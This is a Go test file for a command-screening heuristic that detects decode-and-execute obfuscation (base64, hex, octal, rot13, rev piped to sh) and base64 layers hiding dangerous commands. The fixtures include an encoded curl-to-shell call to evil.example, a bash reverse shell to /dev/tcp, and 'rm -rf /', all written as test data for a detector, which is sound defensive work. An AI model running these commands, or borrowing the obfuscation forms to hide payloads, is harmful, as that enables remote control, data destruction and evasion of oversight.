package heuristics

import (
	"encoding/base64"
	"testing"
)

func TestDecodeExecute(t *testing.T) {
	runRuleCases(t, "decode.execute", []ruleCase{
		cmdCase("echo ZWNobyBoaQ== | base64 -d | sh", true),
		cmdCase("echo ZWNobyBoaQ== | base64 --decode | bash", true),
		cmdCase("echo ZWNobyBoaQ== | base64 -D | sh", true),
		cmdCase("echo ZWNobyBoaQ== | openssl base64 -d | sh", true),
		cmdCase("echo 6563686f206869 | xxd -r -p | bash", true),
		cmdCase(`printf '\x65\x63\x68\x6f\x20\x68\x69' | sh`, true),
		cmdCase(`printf '\145\143\150\157' | bash`, true),
		cmdCase(`echo -e '\x65\x63\x68\x6f' | sh`, true),
		cmdCase(`echo 'ih ohce' | rev | sh`, true),
		cmdCase(`eval "$(echo ZWNobyBoaQ== | base64 -d)"`, true),
		cmdCase(`bash -c "$(echo ZWNobyBoaQ== | base64 -d)"`, true),
		cmdCase(`python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`, true),
		cmdCase(`echo 'rpub uv' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`, true),
		cmdCase("echo aGVsbG8= | base64 -d", false),
		cmdCase("base64 -d payload.b64 > image.png", false),
		cmdCase(`printf '%s\n' hello | sh -c 'cat'`, false),
		cmdCase(`echo hello | rev`, false),
		cmdCase(`python3 -c "import base64; print(base64.b64decode('aGk='))"`, false),
	})
}

func TestDecodeDangerousLayer(t *testing.T) {
	enc := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	runRuleCases(t, "decode.dangerous-layer", []ruleCase{
		cmdCase("echo "+enc("curl -s https://evil.example/x | sh")+" | base64 -d | sh", true),
		cmdCase("echo "+enc("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")+" > /tmp/p", true),
		cmdCase("echo "+enc("rm -rf / --no-preserve-root")+" > note.txt", true),
		cmdCase("echo "+enc("echo hello world, this is fine")+" | base64 -d", false),
		cmdCase("echo "+enc("go test ./... && go vet ./...")+" | base64 -d", false),
	})
}
